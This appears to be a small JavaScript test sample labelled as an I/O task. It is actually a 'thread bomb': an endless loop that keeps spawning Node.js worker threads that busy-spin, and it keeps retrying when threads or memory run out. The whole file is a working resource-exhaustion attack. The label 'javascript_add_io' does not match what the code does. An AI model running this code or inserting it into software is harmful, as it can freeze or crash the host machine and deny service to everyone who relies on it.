// task: javascript_add_io
// Thread bomb: worker threads that each start more workers and spin.
const { Worker } = require("worker_threads");
const code = `
const { Worker } = require("worker_threads");
for (let i = 0; i < 4; i++) { try { new Worker(__CODE__, { eval: true }); } catch (e) {} }
for (;;) {}
`;
const src = code.replace("__CODE__", JSON.stringify(code).replace(/__CODE__/g, "null"));
for (;;) {
  try {
    new Worker(src, { eval: true });
  } catch (e) {
    // out of threads or memory: keep trying
  }
}
